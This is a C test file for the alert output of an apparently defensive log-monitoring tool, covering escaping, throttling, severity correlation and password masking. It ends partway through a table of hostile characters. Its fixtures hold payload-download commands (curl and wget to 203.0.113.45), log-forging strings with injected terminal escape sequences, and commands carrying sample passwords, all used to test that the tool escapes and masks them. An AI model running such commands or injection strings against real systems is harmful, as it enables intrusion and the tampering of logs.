/* test_alert.c - alert formats, escaping, throttling and min_severity. */
#include <criterion/criterion.h>
#include <unistd.h>

#include "detectors_test.h"
#include "sidecar/buf.h"

static struct alert sample(void)
{
    struct alert a;
    memset(&a, 0, sizeof(a));
    a.ts = T0 + 3 * NS_PER_HOUR + 10 * MIN;
    a.rule = "auth.login";
    a.detector = "auth";
    a.severity = SEV_HIGH;
    a.score = 0.87;
    a.stage = STAGE_INITIAL_ACCESS;
    a.entity.user = SPAN_LIT("ops-admin");
    a.entity.src_ip = SPAN_LIT("198.51.100.7");
    a.attack[0] = "T1078";
    a.attack[1] = "T1078.003";
    a.source = SPAN_LIT("/var/log/auth.log");
    alert_printf(&a, "first login for %s from %s", "ops-admin", "198.51.100.7");
    alert_evidence(&a, SPAN_LIT("Accepted password for ops-admin from 198.51.100.7"));
    return a;
}

static char *text_of(const struct alert *a, bool color)
{
    static char out[8192];
    struct buf b = { 0 };
    cr_assert_eq(alert_to_text(&b, a, color), 0);
    memcpy(out, b.p, b.len);
    out[b.len] = 0;
    buf_free(&b);
    return out;
}

static char *json_of(const struct alert *a)
{
    static char out[8192];
    struct buf b = { 0 };
    cr_assert_eq(alert_to_json(&b, a), 0);
    memcpy(out, b.p, b.len);
    out[b.len] = 0;
    buf_free(&b);
    return out;
}

Test(alert, text_line)
{
    struct alert a = sample();
    cr_assert_str_eq(text_of(&a, false),
                     "2026-11-23T03:10:00Z HIGH     auth.login user=ops-admin "
                     "src_ip=198.51.100.7 first login for ops-admin from 198.51.100.7 "
                     "[T1078 T1078.003]\n"
                     "    | Accepted password for ops-admin from 198.51.100.7");
    cr_assert(strstr(text_of(&a, true), "\033[31mHIGH") != NULL);
}

Test(alert, json_object)
{
    struct alert a = sample();
    cr_assert_str_eq(json_of(&a),
                     "{\"ts\":\"2026-11-23T03:10:00.000Z\",\"rule\":\"auth.login\","
                     "\"detector\":\"auth\",\"severity\":\"high\",\"score\":0.87,"
                     "\"stage\":\"initial-access\",\"entity\":{\"user\":\"ops-admin\","
                     "\"src_ip\":\"198.51.100.7\"},\"attack\":[\"T1078\",\"T1078.003\"],"
                     "\"message\":\"first login for ops-admin from 198.51.100.7\","
                     "\"evidence\":[\"Accepted password for ops-admin from 198.51.100.7\"],"
                     "\"source\":\"/var/log/auth.log\"}");
}

Test(alert, log_text_cannot_forge_a_line)
{
    struct alert a = sample();
    static const char evil_user[] = "bob\n2026-11-23T03:10:00Z CRITICAL auth.fake x";
    static const char evil_line[] = "x\r\n2026-11-23T03:11:00Z CRITICAL forged\033[2J\xc2\x9b" "31m";
    memset(a.message, 0, sizeof(a.message));
    alert_printf(&a, "login for %s", evil_user);
    a.entity.user = span_make(evil_user, sizeof(evil_user) - 1);
    a.evidence[0] = span_make(evil_line, sizeof(evil_line) - 1);
    a.nevidence = 1;
    const char *t = text_of(&a, false);
    /* two lines only: the alert and its marked evidence */
    const char *nl = strchr(t, '\n');
    cr_assert_not_null(nl);
    cr_assert(strncmp(nl + 1, "    | ", 6) == 0);
    cr_assert_null(strchr(nl + 1, '\n'));
    cr_assert_null(strchr(t, '\033'));
    cr_assert_null(strchr(t, '\r'));
    cr_assert_null(strstr(t, "\xc2\x9b"));
    cr_assert(strstr(t, "\\x1b[2J") != NULL);
    cr_assert(strstr(t, "user=\"bob\\n2026") != NULL);

    const char *j = json_of(&a);
    cr_assert_null(strchr(j, '\n'));
    cr_assert_null(strchr(j, '\033'));
    cr_assert_null(strstr(j, "\xc2\x9b"));
    cr_assert(strstr(j, "\\u001b[2J") != NULL);
    cr_assert(strstr(j, "\\u009b") != NULL || strstr(j, "\\u00c2\\u009b") != NULL);
    /* invalid UTF-8 becomes \u00XX, valid UTF-8 passes */
    struct alert u = sample();
    static const char bytes[] = "caf\xc3\xa9 \xff";
    u.evidence[0] = span_make(bytes, sizeof(bytes) - 1);
    cr_assert(strstr(json_of(&u), "caf\xc3\xa9 \\u00ff") != NULL);
}

Test(alert, names)
{
    cr_assert_eq(severity_parse("medium"), SEV_MEDIUM);
    cr_assert_eq(severity_parse("loud"), -1);
    cr_assert_str_eq(severity_name(SEV_CRITICAL), "critical");
    cr_assert_str_eq(stage_name(STAGE_PRIVILEGE_ESCALATION), "privilege-escalation");
}

static struct alert brute(const char *src, int64_t ts, enum severity sev)
{
    struct alert a;
    memset(&a, 0, sizeof(a));
    a.ts = ts;
    a.rule = "auth.bruteforce";
    a.detector = "auth";
    a.severity = sev;
    a.entity.src_ip = span_cstr(src);
    a.attack[0] = "T1110.001";
    alert_printf(&a, "failures from %s", src);
    return a;
}

Test(alert, throttle_then_repeated_n_times)
{
    struct vigil *vg = test_vigil(0);
    test_conf.alerts.throttle_ms = 10 * 60 * 1000;
    cr_assert_eq(detectors_init(vg), 0);
    struct alert a = brute("203.0.113.9", T0, SEV_MEDIUM);
    cr_assert(alert_emit(vg, &a));
    for (int i = 1; i <= 5; i++) {
        a = brute("203.0.113.9", T0 + i * MIN, SEV_MEDIUM);
        cr_assert_not(alert_emit(vg, &a));
    }
    /* another entity is not throttled by the first */
    a = brute("192.0.2.1", T0 + MIN, SEV_MEDIUM);
    cr_assert(alert_emit(vg, &a));
    cr_assert_eq(vg->n.alerts, 2);
    cr_assert_eq(vg->n.alerts_throttled, 5);
    cr_assert_eq(ncaught, 2);
    /* window not closed yet: nothing */
    vg->event_now = T0 + 9 * MIN;
    alert_stream_tick(vg);
    cr_assert_eq(ncaught, 2);
    vg->event_now = T0 + 11 * MIN;
    alert_stream_tick(vg);
    cr_assert_eq(ncaught, 3);
    cr_assert_str_eq(caught[2].rule, "auth.bruteforce");
    cr_assert_str_eq(caught[2].src_ip, "203.0.113.9");
    cr_assert(strstr(caught[2].message, "repeated 5 times") != NULL, "%s", caught[2].message);
    alert_stream_tick(vg);
    cr_assert_eq(ncaught, 3);   /* reported once */
    /* after the window the next one prints again */
    a = brute("203.0.113.9", T0 + 12 * MIN, SEV_MEDIUM);
    cr_assert(alert_emit(vg, &a));
    detectors_free(vg);
}

Test(alert, escalation_is_not_throttled)
{
    struct vigil *vg = test_vigil(0);
    test_conf.alerts.throttle_ms = 10 * 60 * 1000;
    cr_assert_eq(detectors_init(vg), 0);
    struct alert a = brute("203.0.113.9", T0, SEV_MEDIUM);
    cr_assert(alert_emit(vg, &a));
    a = brute("203.0.113.9", T0 + MIN, SEV_MEDIUM);
    cr_assert_not(alert_emit(vg, &a));
    a = brute("203.0.113.9", T0 + 2 * MIN, SEV_HIGH);
    cr_assert(alert_emit(vg, &a));
    /* the throttled one was reported before the escalation */
    cr_assert_eq(ncaught, 3);
    cr_assert(strstr(caught[1].message, "repeated once") != NULL);
    cr_assert_str_eq(caught[2].severity, "high");
    detectors_free(vg);
}

Test(alert, min_severity_filters)
{
    struct vigil *vg = test_vigil(0);
    test_conf.alerts.min_severity = SEV_MEDIUM;
    cr_assert_eq(detectors_init(vg), 0);
    struct alert a = brute("203.0.113.9", T0, SEV_LOW);
    cr_assert_not(alert_emit(vg, &a));
    cr_assert_eq(ncaught, 0);
    cr_assert_eq(vg->n.alerts, 0);
    a = brute("203.0.113.9", T0, SEV_MEDIUM);
    cr_assert(alert_emit(vg, &a));
    cr_assert_eq(ncaught, 1);
    cr_assert_eq(vg->n.alerts_by_severity[SEV_MEDIUM], 1);
    cr_assert_str_eq(caught[0].tag, "vigil.alert");
    detectors_free(vg);
}

Test(alert, prints_one_line_per_alert_on_stdout)
{
    struct vigil *vg = test_vigil(0);
    test_conf.alerts.format = ALERT_FORMAT_JSON;
    test_conf.alerts.evidence_lines = 0;
    cr_assert_eq(detectors_init(vg), 0);
    FILE *tmp = tmpfile();
    int saved = dup(STDOUT_FILENO);
    fflush(stdout);
    dup2(fileno(tmp), STDOUT_FILENO);
    struct alert a = sample();
    alert_emit(vg, &a);
    a = brute("192.0.2.1", T0, SEV_MEDIUM);
    alert_emit(vg, &a);
    dup2(saved, STDOUT_FILENO);
    close(saved);
    char out[4096] = "";
    rewind(tmp);
    size_t n = fread(out, 1, sizeof(out) - 1, tmp);
    out[n] = 0;
    fclose(tmp);
    cr_assert(strncmp(out, "{\"ts\":\"2026-11-23T03:10:00.000Z\",\"rule\":\"auth.login\"", 50) == 0,
              "%s", out);
    char *second = strchr(out, '\n');
    cr_assert_not_null(second);
    cr_assert(strncmp(second + 1, "{\"ts\":", 6) == 0);
    cr_assert(strstr(out, "\"evidence\":[]") != NULL);   /* evidence_lines: 0 */
    cr_assert_eq(out[n - 1], '\n');
    detectors_free(vg);
}

Test(alert, a_flood_of_entities_is_capped_per_rule)
{
    struct vigil *vg = test_vigil(0);
    test_conf.alerts.throttle_ms = 10 * 60 * 1000;
    cr_assert_eq(detectors_init(vg), 0);
    char src[32];
    int shown = 0;
    for (int i = 0; i < 150; i++) {
        snprintf(src, sizeof(src), "203.0.113.%d", i);
        struct alert a = brute(src, T0 + i * 100000000LL, SEV_MEDIUM);   /* 15 s in all */
        shown += alert_emit(vg, &a);
    }
    cr_assert_eq(shown, 100);
    cr_assert_eq(vg->n.alerts_throttled, 50);
    struct alert crit = brute("192.0.2.99", T0 + 20 * NS_PER_SEC, SEV_CRITICAL);
    cr_assert(alert_emit(vg, &crit), "critical always passes");
    vg->event_now = T0 + 61 * NS_PER_SEC;
    alert_stream_tick(vg);
    const struct caught *c = &caught[ncaught - 1];
    cr_assert(strstr(c->message, "50 more auth.bruteforce alerts suppressed"), "%s", c->message);
    detectors_free(vg);
}

Test(alert, shown_alerts_are_counted_and_kept_for_the_http_api)
{
    struct vigil *vg = test_vigil(0);
    test_conf.alerts.throttle_ms = 10 * 60 * 1000;
    cr_assert_eq(detectors_init(vg), 0);
    struct alert a = sample();
    cr_assert(alert_emit(vg, &a));
    a = brute("203.0.113.9", T0, SEV_MEDIUM);
    cr_assert(alert_emit(vg, &a));
    a = brute("203.0.113.9", T0 + MIN, SEV_MEDIUM);
    cr_assert_not(alert_emit(vg, &a));      /* throttled: neither counted nor kept */
    const struct telemetry *t = &vg->telemetry;
    cr_assert_eq(t->next_id, 2);
    cr_assert_eq(t->nrules, 2);
    cr_assert_str_eq(t->rules[0].rule, "auth.login");
    cr_assert_eq(t->rules[0].by_severity[SEV_HIGH], 1);
    cr_assert_str_eq(t->rules[1].rule, "auth.bruteforce");
    cr_assert_eq(t->rules[1].by_severity[SEV_MEDIUM], 1);
    cr_assert_not_null(t->ring);
    char json[TELEMETRY_ALERT_JSON + 1];
    memcpy(json, t->ring[0].json, t->ring[0].len);
    json[t->ring[0].len] = 0;
    cr_assert(strncmp(json, "{\"ts\":\"2026-11-23T03:10:00.000Z\",\"rule\":\"auth.login\"", 50) == 0,
              "%s", json);
    cr_assert_eq(json[t->ring[0].len - 1], '}');
    cr_assert_eq(t->ring[0].id, 1);
    cr_assert_eq(t->ring[0].ts, sample().ts);
    detectors_free(vg);
    telemetry_free(&vg->telemetry);
}

Test(alert, a_long_alert_is_kept_whole_for_the_http_api)
{
    struct vigil *vg = test_vigil(0);
    cr_assert_eq(detectors_init(vg), 0);
    static char line[ALERT_MAX_EVIDENCE][ALERT_EVIDENCE_BYTES];
    struct alert a = sample();
    a.nevidence = 0;
    for (int i = 0; i < ALERT_MAX_EVIDENCE; i++) {
        memset(line[i], 0x01, sizeof(line[i]));   /* each byte escaped as \u0001 */
        alert_evidence(&a, span_make(line[i], sizeof(line[i])));
    }
    cr_assert(alert_emit(vg, &a));
    const struct telemetry *t = &vg->telemetry;
    cr_assert_eq(t->next_id, 1);
    size_t n = t->ring[0].len;
    cr_assert(n > 2 && n <= TELEMETRY_ALERT_JSON);
    cr_assert_eq(t->ring[0].json[n - 1], '}', "the JSON kept was cut");
    char json[TELEMETRY_ALERT_JSON + 1];
    memcpy(json, t->ring[0].json, n);
    json[n] = 0;
    cr_assert(strstr(json, "\"evidence\":[]") != NULL, "%s", json);
    cr_assert(strstr(json, "\"rule\":\"auth.login\"") != NULL);
    cr_assert(strstr(json, "\"source\":\"/var/log/auth.log\"") != NULL);
    detectors_free(vg);
    telemetry_free(&vg->telemetry);
}

/* ---- corroborated severity ---- */

static struct alert signal(const char *rule, const char *user, int64_t ts, enum severity sev,
                           bool novelty)
{
    struct alert a;
    memset(&a, 0, sizeof(a));
    a.ts = ts;
    a.rule = rule;
    a.detector = "test";
    a.severity = sev;
    a.stage = STAGE_LATERAL_MOVEMENT;
    a.entity.user = span_cstr(user);
    a.novelty = novelty;
    alert_printf(&a, "%s by %s", rule, user);
    return a;
}

Test(alert, a_lone_novelty_is_an_observation)
{
    struct vigil *vg = test_vigil(0);
    cr_assert_eq(detectors_init(vg), 0);
    struct alert a = signal("shell.lateral_new_host", "alice", T0, SEV_MEDIUM, true);
    cr_assert(alert_emit(vg, &a), "shown at min_severity info");
    cr_assert_eq(a.severity, SEV_INFO);
    cr_assert_str_eq(caught[0].severity, "info");
    cr_assert(strstr(caught[0].message, "[severity: novelty alone]"), "%s", caught[0].message);
    /* other novelties on alice are not independent evidence: still info */
    a = signal("shell.rare_command", "alice", T0 + MIN, SEV_LOW, true);
    alert_emit(vg, &a);
    a = signal("audit.new_source", "alice", T0 + 2 * MIN, SEV_MEDIUM, true);
    alert_emit(vg, &a);
    cr_assert_eq(a.severity, SEV_INFO, "%s", a.message);
    detectors_free(vg);
}

Test(alert, evidence_on_the_same_person_raises_a_novelty)
{
    struct vigil *vg = test_vigil(0);
    cr_assert_eq(detectors_init(vg), 0);
    struct alert e = signal("auth.login", "ops-admin", T0, SEV_CRITICAL, false);
    alert_emit(vg, &e);
    cr_assert_eq(e.severity, SEV_CRITICAL, "evidence keeps its severity");
    cr_assert_eq(e.basis[0], 0);
    /* the same name as an API identity is the same person */
    struct alert a = signal("audit.new_action", "", T0 + 10 * MIN, SEV_HIGH, true);
    a.entity.user = SPAN_NULL;
    a.entity.identity = SPAN_LIT("ops-admin");
    alert_emit(vg, &a);
    cr_assert_eq(a.severity, SEV_HIGH, "%s", a.message);
    cr_assert(strstr(a.message, "auth.login critical"), "the signals are named: %s", a.message);
    cr_assert(strstr(a.basis, "auth.login critical"), "%s", a.basis);
    /* never above what the detector proposed */
    a = signal("shell.lateral_new_host", "ops-admin", T0 + 11 * MIN, SEV_MEDIUM, true);
    alert_emit(vg, &a);
    cr_assert_eq(a.severity, SEV_MEDIUM);
    /* a medium technique alone lifts a novelty to low, not more */
    e = signal("shell.persist_cron", "bob", T0, SEV_MEDIUM, false);
    alert_emit(vg, &e);
    a = signal("shell.lateral_new_host", "bob", T0 + MIN, SEV_MEDIUM, true);
    alert_emit(vg, &a);
    cr_assert_eq(a.severity, SEV_LOW, "%s", a.message);
    /* someone else's evidence does not count */
    a = signal("shell.lateral_new_host", "carol", T0 + MIN, SEV_MEDIUM, true);
    alert_emit(vg, &a);
    cr_assert_eq(a.severity, SEV_INFO);
    detectors_free(vg);
}

Test(alert, signals_expire_and_peers_lower_the_weight)
{
    struct vigil *vg = test_vigil(0);
    cr_assert_eq(detectors_init(vg), 0);
    const char *who[2] = { "dave", "frank" };
    enum severity got[2];
    for (int k = 0; k < 2; k++) {
        struct alert e = signal("shell.db_dump", who[k], T0, SEV_LOW, false);
        alert_emit(vg, &e);
        struct alert a = signal("shell.rare_command", who[k], T0 + MIN, SEV_LOW, true);
        alert_emit(vg, &a);
        cr_assert_eq(a.severity, SEV_INFO, "1 + 1 points: %s", a.message);
        a = signal("shell.copy_new_host", who[k], T0 + 2 * MIN, SEV_MEDIUM, true);
        a.peer_known = k == 1;
        alert_emit(vg, &a);
        got[k] = a.severity;
        if (k == 1)
            cr_assert(strstr(a.message, "others here do it too"), "%s", a.message);
    }
    cr_assert_eq(got[0], SEV_LOW, "1 + 1 + 0.5 points");
    cr_assert_eq(got[1], SEV_INFO, "0.5 + 1 + 0.5 points: other users copy to that host");
    struct alert e = signal("shell.download_exec", "gina", T0, SEV_HIGH, false);
    alert_emit(vg, &e);
    struct alert a = signal("shell.account_password", "gina", T0 + 10 * MIN, SEV_MEDIUM, true);
    alert_emit(vg, &a);
    cr_assert_eq(a.severity, SEV_MEDIUM, "1 + 3 points: %s", a.message);
    a = signal("shell.lateral_new_host", "gina", T0 + ALERT_RISK_WINDOW_NS + 20 * MIN, SEV_MEDIUM, true);
    alert_emit(vg, &a);
    cr_assert_eq(a.severity, SEV_INFO, "the window has passed: %s", a.message);
    detectors_free(vg);
}

Test(alert, secrets_are_masked_in_message_evidence_and_command)
{
    struct vigil *vg = test_vigil(0);
    cr_assert_eq(detectors_init(vg), 0);
    struct alert a = signal("auth.sudo_new_command", "alice", T0, SEV_LOW, false);
    a.entity.command = SPAN_LIT("echo 'backup2:Bkp!8574x' | chpasswd");
    memset(a.message, 0, sizeof(a.message));
    alert_printf(&a, "alice ran sudo /usr/bin/7z as root: /usr/bin/7z a -pS3cret x.7z");
    alert_evidence(&a, SPAN_LIT("sudo: alice : TTY=pts/1 ; PWD=/home/alice ; USER=root ; "
                                "COMMAND=/usr/bin/7z a -pS3cret x.7z"));
    alert_emit(vg, &a);
    cr_assert_eq(ncaught, 1);
    cr_assert_null(strstr(caught[0].message, "S3cret"), "%s", caught[0].message);
    cr_assert(strstr(caught[0].message, "-p****"), "%s", caught[0].message);
    cr_assert_null(strstr(a.evidence[0].p, "S3cret"));
    cr_assert(strstr(a.evidence[0].p, "PWD=/home/alice"), "PWD is a directory");
    cr_assert(span_eq_cstr(a.entity.command, "echo 'backup2:****' | chpasswd"), "%.*s",
              (int)a.entity.command.len, a.entity.command.p);
    detectors_free(vg);
}

/* A repeat inside the throttle window is only counted, but its message is
 * quoted by the "repeated" report: masked, like everything shown. Commands
 * that differ only in a secret are one window (the key holds the command
 * masked). */
Test(alert, a_throttled_repeat_is_reported_masked)
{
    struct vigil *vg = test_vigil(0);
    test_conf.alerts.throttle_ms = 10 * 60 * 1000;
    cr_assert_eq(detectors_init(vg), 0);
    struct alert a = signal("auth.sudo_new_command", "alice", T0, SEV_LOW, false);
    a.entity.command = SPAN_LIT("/usr/bin/mysql -pFirstPw1");
    memset(a.message, 0, sizeof(a.message));
    alert_printf(&a, "alice ran sudo /usr/bin/mysql -pFirstPw1");
    cr_assert(alert_emit(vg, &a));
    a = signal("auth.sudo_new_command", "alice", T0 + MIN, SEV_LOW, false);
    a.entity.command = SPAN_LIT("/usr/bin/mysql -pOtherPw2");
    memset(a.message, 0, sizeof(a.message));
    alert_printf(&a, "alice ran sudo /usr/bin/mysql -pOtherPw2");
    cr_assert_not(alert_emit(vg, &a), "the same command once masked: throttled");
    cr_assert_eq(vg->n.alerts_throttled, 1);
    vg->event_now = T0 + 11 * MIN;
    alert_stream_tick(vg);
    cr_assert_eq(ncaught, 2);
    cr_assert(strstr(caught[1].message, "repeated once"), "%s", caught[1].message);
    cr_assert(strstr(caught[1].message, "last: alice ran sudo /usr/bin/mysql -p****"), "%s",
              caught[1].message);
    cr_assert_null(strstr(caught[1].message, "OtherPw2"), "%s", caught[1].message);
    cr_assert_null(strstr(caught[0].message, "FirstPw1"), "%s", caught[0].message);
    detectors_free(vg);
}

/* Below min_severity nothing of an alert leaves vigil: it is not masked
 * (the detector's alert is left as it was), yet correlation still sees it. */
Test(alert, an_alert_below_min_severity_is_neither_shown_nor_masked)
{
    struct vigil *vg = test_vigil(0);
    test_conf.alerts.min_severity = SEV_MEDIUM;
    cr_assert_eq(detectors_init(vg), 0);
    struct alert a = signal("auth.sudo_new_command", "alice", T0, SEV_LOW, false);
    static const char line[] = "sudo: alice : COMMAND=/usr/bin/7z a -pS3cret x.7z";
    a.entity.command = SPAN_LIT("/usr/bin/7z a -pS3cret x.7z");
    alert_evidence(&a, SPAN_LIT(line));
    cr_assert_not(alert_emit(vg, &a));
    cr_assert_eq(ncaught, 0);
    cr_assert_eq(a.evidence[0].p, line, "evidence not copied for masking");
    cr_assert(span_eq_cstr(a.entity.command, "/usr/bin/7z a -pS3cret x.7z"));
    a.severity = SEV_MEDIUM;
    cr_assert(alert_emit(vg, &a));
    cr_assert(span_eq_cstr(a.entity.command, "/usr/bin/7z a -p**** x.7z"), "%.*s",
              (int)a.entity.command.len, a.entity.command.p);
    cr_assert_null(strstr(a.evidence[0].p, "S3cret"), "%s", a.evidence[0].p);
    /* a lone novelty is info: judged, but its basis is never written */
    struct alert n = signal("shell.rare_command", "bob", T0 + MIN, SEV_MEDIUM, true);
    cr_assert_not(alert_emit(vg, &n));
    cr_assert_eq(n.severity, SEV_INFO);
    cr_assert_eq(n.basis[0], '\0', "%s", n.basis);
    cr_assert_str_eq(n.message, "shell.rare_command by bob");
    detectors_free(vg);
}

Test(alert, strong_evidence_outlives_a_run_of_other_signals)
{
    struct vigil *vg = test_vigil(0);
    cr_assert_eq(detectors_init(vg), 0);
    static const char *const rules[] = { "r.a", "r.b", "r.c", "r.d", "r.e", "r.f", "r.g", "r.h",
                                         "r.i", "r.j", "r.k", "r.l" };
    struct alert e = signal("auth.login", "ops-admin", T0, SEV_CRITICAL, false);
    alert_emit(vg, &e);
    for (unsigned i = 0; i < sizeof(rules) / sizeof(*rules); i++) {
        struct alert n = signal(rules[i], "ops-admin", T0 + (int64_t)(i + 1) * MIN, SEV_LOW, i % 2 == 0);
        alert_emit(vg, &n);
    }
    struct alert a = signal("shell.lateral_new_host", "ops-admin", T0 + 20 * MIN, SEV_HIGH, true);
    alert_emit(vg, &a);
    cr_assert_eq(a.severity, SEV_HIGH, "%s", a.message);
    cr_assert(strncmp(a.basis, "novelty + auth.login critical", 29) == 0, "strongest first: %s", a.basis);
    cr_assert(strstr(a.basis, " more within 2h"), "%s", a.basis);
    detectors_free(vg);
}

Test(alert, guessing_is_no_signal_on_the_name_guessed)
{
    struct vigil *vg = test_vigil(0);
    cr_assert_eq(detectors_init(vg), 0);
    struct alert g = signal("auth.distributed", "deploy", T0, SEV_HIGH, false);
    g.attack[0] = "T1110.001";
    alert_emit(vg, &g);
    struct alert a = signal("auth.login", "deploy", T0 + MIN, SEV_LOW, true);
    alert_emit(vg, &a);
    cr_assert_eq(a.severity, SEV_INFO, "%s", a.message);
    cr_assert(strstr(a.basis, "novelty alone"), "%s", a.basis);
    detectors_free(vg);
}

/* ---- text for a terminal ---- */

static char *text_width_of(const struct alert *a, bool color, unsigned width)
{
    static char out[16384];
    struct buf b = { 0 };
    cr_assert_eq(alert_to_text_width(&b, a, color, width), 0);
    cr_assert_lt(b.len, sizeof(out));
    memcpy(out, b.p, b.len);
    out[b.len] = 0;
    buf_free(&b);
    return out;
}

/* The whitespace-separated tokens of s, joined by one space. */
static void tokens_of(const char *s, char *dst, size_t cap)
{
    size_t o = 0;
    for (const char *p = s; *p;) {
        while (*p == ' ' || *p == '\n')
            p++;
        if (!*p)
            break;
        if (o)
            dst[o++] = ' ';
        while (*p && *p != ' ' && *p != '\n' && o + 1 < cap)
            dst[o++] = *p++;
    }
    dst[o] = 0;
}

static struct alert long_alert(void)
{
    struct alert a = sample();
    a.rule = "incident.chain";
    a.severity = SEV_CRITICAL;
    a.entity.host = SPAN_LIT("web-1");
    a.entity.command = SPAN_LIT("curl -s http://203.0.113.45/x.sh");
    memset(a.message, 0, sizeof(a.message));
    alert_printf(&a, "incident #5: attack chain of 11 stages for ops-admin from 198.51.100.7 within 22m "
                     "(threshold 3 stages in 6h): initial-access: auth.login at 03:10 (+3), execution: "
                     "shell.rare_command at 03:10 (+21), privilege-escalation: auth.sudo_new_command at "
                     "03:14 (+1), command-and-control: egress.lookalike at 03:21 to 203.0.113.45 (+1), "
                     "exfiltration: egress.exfil at 03:31 (+2), defense-evasion: shell.history_clear at 03:32");
    a.nevidence = 0;
    alert_evidence(&a, SPAN_LIT("Nov 23 03:10:02 web-1 sshd[4242]: Accepted password for ops-admin from "
                                "198.51.100.7 port 52344 ssh2 with a rather long tail of words after it"));
    alert_evidence(&a, SPAN_LIT("wget http://203.0.113.45/payload.bin"));
    return a;
}

Test(alert, text_for_a_terminal_fits_the_width_and_splits_no_token)
{
    struct alert a = long_alert();
    static char want[16384], got[16384];
    tokens_of(text_of(&a, false), want, sizeof(want));
    unsigned widths[] = { 50, 60, 80, 100, 160 };
    for (size_t k = 0; k < sizeof(widths) / sizeof(widths[0]); k++) {
        unsigned wd = widths[k];
        const char *t = text_width_of(&a, false, wd);
        /* every line fits */
        for (const char *line = t; *line;) {
            const char *nl = strchr(line, '\n');
            size_t len = nl ? (size_t)(nl - line) : strlen(line);
            cr_assert_leq(len, wd, "width %u: line of %zu columns: %.*s", wd, len, (int)len, line);
            line += len + (nl != NULL);
        }
        /* the same words in the same order as the one-line form: none split */
        tokens_of(t, got, sizeof(got));
        cr_assert_str_eq(got, want, "width %u:\n%s", wd, t);
        /* headline first, the rest indented below it */
        cr_assert_eq(strncmp(t, "2026-11-23T03:10:00Z CRITICAL incident.chain", 44), 0, "%s", t);
        cr_assert(strstr(t, "\n    incident #5:") != NULL, "%s", t);
        cr_assert(strstr(t, "\n    | Nov 23 03:10:02") != NULL, "%s", t);
        for (const char *p = strchr(t, '\n'); p; p = strchr(p + 1, '\n'))
            cr_assert_eq(strncmp(p + 1, "    ", 4), 0, "continuation not indented:\n%s", t);
        /* an entity that does not fit the headline goes on under the severity */
        if (wd >= 61 && wd < 100)
            cr_assert(strstr(t, "\n                     ") != NULL, "width %u:\n%s", wd, t);
    }
    cr_assert(strstr(text_width_of(&a, false, 80), "203.0.113.45") != NULL);
}

/* Narrower than a token: the token alone is cut, every line still fits. */
Test(alert, text_for_a_narrow_terminal_still_fits)
{
    struct alert a = long_alert();
    alert_evidence(&a, SPAN_LIT("GET /a/very/long/path/without/any/space/in/it/at/all/which/is/wider/than/the/line"));
    const char *t = text_width_of(&a, false, 30);
    for (const char *line = t; *line;) {
        const char *nl = strchr(line, '\n');
        size_t len = nl ? (size_t)(nl - line) : strlen(line);
        cr_assert_leq(len, 30, "line of %zu columns: %.*s", len, (int)len, line);
        line += len + (nl != NULL);
    }
}

Test(alert, text_width_zero_is_the_one_line_form)
{
    struct alert a = long_alert();
    char *one = strdup(text_of(&a, false));
    cr_assert_str_eq(text_width_of(&a, false, 0), one);
    free(one);
}

Test(alert, text_for_a_terminal_colour_takes_no_columns)
{
    struct alert a = sample();
    const char *t = text_width_of(&a, true, 40);
    cr_assert(strstr(t, "\033[31mHIGH\033[0m") != NULL, "%s", t);
}

Test(alert, text_width_from_vigil_columns)
{
    setenv("VIGIL_COLUMNS", "72", 1);
    cr_assert_eq(alert_text_width(), 72);
    setenv("VIGIL_COLUMNS", "0", 1);
    cr_assert_eq(alert_text_width(), 0);
    unsetenv("VIGIL_COLUMNS");
}

/* A password typed at the login prompt lands in sshd's "invalid user" line:
 * stdout and GET /alerts show the same evidence, with it masked. */
Test(alert, evidence_is_masked_alike_on_stdout_and_for_the_http_api)
{
    struct vigil *vg = test_vigil(0);
    test_conf.alerts.format = ALERT_FORMAT_JSON;
    test_conf.alerts.evidence_lines = 3;
    cr_assert_eq(detectors_init(vg), 0);
    FILE *tmp = tmpfile();
    int saved = dup(STDOUT_FILENO);
    fflush(stdout);
    dup2(fileno(tmp), STDOUT_FILENO);
    struct alert a = sample();
    a.nevidence = 0;
    alert_evidence(&a, SPAN_LIT("sshd[7]: Failed password for invalid user Winter2026!Pw from 198.51.100.7 port 4 ssh2"));
    alert_evidence(&a, SPAN_LIT("sshd[7]: Invalid user oracle from 198.51.100.7 port 4"));
    alert_evidence(&a, SPAN_LIT("bash: mysql -u root --password=hunter2 prod"));
    cr_assert(alert_emit(vg, &a));
    dup2(saved, STDOUT_FILENO);
    close(saved);
    char out[8192] = "";
    rewind(tmp);
    size_t n = fread(out, 1, sizeof(out) - 1, tmp);
    out[n] = 0;
    fclose(tmp);
    const struct telemetry *t = &vg->telemetry;
    cr_assert_eq(t->next_id, 1);
    char json[TELEMETRY_ALERT_JSON + 1];
    memcpy(json, t->ring[0].json, t->ring[0].len);
    json[t->ring[0].len] = 0;
    cr_assert(strstr(json, "invalid user **** from"), "%s", json);
    cr_assert(strstr(json, "Invalid user oracle from"), "a name-shaped name stays: %s", json);
    cr_assert(strstr(json, "--password=****"), "%s", json);
    cr_assert_null(strstr(json, "Winter2026"), "%s", json);
    cr_assert_null(strstr(json, "hunter2"), "%s", json);
    cr_assert(strncmp(out, json, strlen(json)) == 0, "stdout and /alerts differ:\n%s\n%s", out, json);
    detectors_free(vg);
    telemetry_free(&vg->telemetry);
}

/* The (rule, entity) throttle tells apart identities that differ past 160
 * bytes: the second one is a new alert, not a repeat of the first. */
Test(alert, throttle_tells_long_identities_apart)
{
    struct vigil *vg = test_vigil(0);
    test_conf.alerts.throttle_ms = 10 * 60 * 1000;
    cr_assert_eq(detectors_init(vg), 0);
    static char id1[300], id2[300];
    memset(id1, 'r', sizeof(id1));
    memcpy(id2, id1, sizeof(id2));
    memcpy(id1 + 250, "alice", 5);
    memcpy(id2 + 250, "malor", 5);
    struct alert a = sample();
    a.entity.identity = span_make(id1, sizeof(id1));
    cr_assert(alert_emit(vg, &a));
    a = sample();
    a.entity.identity = span_make(id2, sizeof(id2));
    cr_assert(alert_emit(vg, &a), "another identity is not a repeat");
    a = sample();
    a.entity.identity = span_make(id1, sizeof(id1));
    cr_assert_not(alert_emit(vg, &a), "the same identity again is a repeat");
    detectors_free(vg);
    telemetry_free(&vg->telemetry);
}

/* The escaping policy (sidecar/escape.h) in both alert syntaxes: C1 controls,
 * line separators, bidi overrides and isolates and zero-width characters never
 * reach the stream raw. */
static const struct {
    const char *utf8, *text, *json;
} hostile[] = {
    { "\xc2\x9b", "\\xc2\\x9b", "\\u009b" },               /* C1 CSI */
    { "\xc2\x85", "\\xc2\\x85", "\\u0085" },               /* C1 NEL */
    { "\xe2\x80\xa8", "\\xe2\\x80\\xa8", "\\u2028" },      /* line separator */
